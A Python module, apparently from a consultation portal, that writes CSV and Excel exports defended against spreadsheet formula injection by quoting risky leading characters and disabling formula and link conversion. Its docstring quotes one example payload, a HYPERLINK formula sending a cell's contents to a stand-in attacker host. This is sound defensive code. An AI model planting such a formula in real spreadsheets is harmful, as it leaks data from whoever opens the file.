"""The CSV and Excel (.xlsx) files the portal hands out, written one way for every export.

Spreadsheets (Excel, LibreOffice, Google Sheets) run a cell that starts with ``=``, ``+``,
``-`` or ``@`` as a formula, and some also after a leading tab or carriage return: a title
such as ``=HYPERLINK("http://evil.example/?x="&A1,"x")`` typed by a participant would run on
the secretariat's computer when the export is opened. Every text cell that starts with one of
these characters is written with a single quote in front (OWASP's "CSV injection" advice), so
the spreadsheet shows it as text. Numbers the portal itself writes (counts, round numbers)
stay numbers.

A CSV file starts with a UTF-8 byte order mark, without which Excel reads accents and Arabic
as Windows-1252. Excel in French, Spanish or Portuguese still opens a comma CSV in a single
column: every export is also an .xlsx workbook (xlsxwriter), with the same defused text, its
header row in the reader's language, bold and frozen, its columns sized to what they hold,
dates and times as real ones in the consultation's time zone, and labels for the portal's
own values (a status, a stakeholder group) in the reader's language too. Text is always
written as text, never as a formula or a link.

Rows are given as Python values: text, numbers, ``True``/``False``, ``None`` (empty), dates
and times (aware), and the portal's enumerations; the CSV writes them as it always has (a
time in ISO 8601, an enumeration by its value, ``true``/``false``).
"""

import csv
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from enum import Enum
from zoneinfo import ZoneInfo

import xlsxwriter
from flask import Response

#: What a spreadsheet may take as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

BYTE_ORDER_MARK = "\ufeff"


def defused(cell: object) -> object:
    """The cell as a spreadsheet shows it as text: a text starting like a formula gets a
    leading single quote; anything else (numbers, other text) is unchanged."""
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell


def csv_cell(cell: object) -> object:
    """How a value is written in a CSV file."""
    if isinstance(cell, bool):
        return "true" if cell else "false"
    if isinstance(cell, datetime | date):
        return cell.isoformat()
    if isinstance(cell, Enum):
        return cell.value
    return defused(cell)


def csv_text(header: Iterable[object], rows: Iterable[Iterable[object]]) -> str:
    """The header and the rows as CSV text, with its byte order mark and every cell
    defused."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([defused(cell) for cell in header])
    writer.writerows([csv_cell(cell) for cell in row] for row in rows)
    return BYTE_ORDER_MARK + buffer.getvalue()


def csv_download(filename: str, header: Iterable[object],
                 rows: Iterable[Iterable[object]]) -> Response:
    """A CSV file to download, named ``filename``."""
    return Response(csv_text(header, rows), mimetype="text/csv", headers={
        "Content-Disposition": f'attachment; filename="{filename}"'})


XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

#: Column widths, in characters: at least a short heading's, at most what a screen shows.
NARROWEST, WIDEST = 8, 60
#: Excel's formats for a moment (in the consultation's time zone) and for a day.
MOMENT_FORMAT, DAY_FORMAT = "yyyy-mm-dd hh:mm", "yyyy-mm-dd"


def _shown(cell: object, time_zone: ZoneInfo) -> object:
    """The value a workbook cell holds: a label for the portal's values, a local time."""
    if isinstance(cell, Enum):
        return str(getattr(cell, "label", cell.value))
    if isinstance(cell, datetime):
        return cell.astimezone(time_zone).replace(tzinfo=None)
    return cell


def _width(cell: object) -> int:
    if isinstance(cell, datetime):
        return len("2024-04-23 08:30") + 1
    if isinstance(cell, date):
        return len("2024-04-23") + 1
    longest_line = max((len(line) for line in str(cell).splitlines()), default=0)
    return longest_line + 1


def xlsx_bytes(headings: Sequence[object], rows: Iterable[Iterable[object]], *,
               sheet_name: str, time_zone: str = "UTC", right_to_left: bool = False) -> bytes:
    """A workbook of one sheet: the headings (in the reader's language) in a bold, frozen
    first row with a filter, then the rows; text defused as in the CSV files."""
    zone = ZoneInfo(time_zone)
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {
        "in_memory": True, "strings_to_formulas": False, "strings_to_urls": False,
        "strings_to_numbers": False})
    bold = workbook.add_format({"bold": True, "text_wrap": True, "valign": "top"})
    moment = workbook.add_format({"num_format": MOMENT_FORMAT, "valign": "top"})
    day = workbook.add_format({"num_format": DAY_FORMAT, "valign": "top"})
    plain = workbook.add_format({"valign": "top"})
    # Excel refuses a sheet name with []:*?/\ or over 31 characters.
    sheet = workbook.add_worksheet(
        "".join(" " if character in "[]:*?/\\" else character for character in sheet_name)[:31]
        or "Sheet1")
    if right_to_left:
        sheet.right_to_left()
    widths = []
    for column, heading in enumerate(headings):
        text = str(heading)
        sheet.write_string(0, column, defused(text), bold)
        widths.append(_width(text))
    count = 0
    for count, row in enumerate(rows, start=1):
        for column, cell in enumerate(row):
            value = _shown(cell, zone)
            if value is None or value == "":
                continue
            if isinstance(value, bool):
                sheet.write_boolean(count, column, value, plain)
            elif isinstance(value, int | float):
                sheet.write_number(count, column, value, plain)
            elif isinstance(value, datetime):
                sheet.write_datetime(count, column, value, moment)
            elif isinstance(value, date):
                sheet.write_datetime(count, column, value, day)
            else:
                sheet.write_string(count, column, defused(str(value)), plain)
            if column < len(widths):
                widths[column] = max(widths[column], _width(value))
    for column, width in enumerate(widths):
        sheet.set_column(column, column, min(max(width, NARROWEST), WIDEST))
    sheet.freeze_panes(1, 0)
    if headings:
        sheet.autofilter(0, 0, count, len(headings) - 1)
    workbook.close()
    return buffer.getvalue()


def xlsx_download(filename: str, headings: Sequence[object],
                  rows: Iterable[Iterable[object]], **options) -> Response:
    """An .xlsx workbook to download, named ``filename`` (options: ``xlsx_bytes``'s)."""
    return Response(xlsx_bytes(headings, rows, **options), mimetype=XLSX, headers={
        "Content-Disposition": f'attachment; filename="{filename}"'})


@dataclass(frozen=True)
class Column:
    """A column of an export: its CSV header (a fixed key that scripts rely on) and its
    heading in a workbook (the reader's language)."""

    key: str
    heading: object


def downloads(columns: Sequence[Column], rows: Sequence[Sequence[object]], filename: str,
              file_format: str, **options) -> Response:
    """The export as ``file_format`` (``csv`` or ``xlsx``), named ``filename`` plus the
    extension (options: ``xlsx_bytes``'s)."""
    if file_format == "xlsx":
        return xlsx_download(f"{filename}.xlsx", [column.heading for column in columns], rows,
                             **options)
    return csv_download(f"{filename}.csv", [column.key for column in columns], rows)
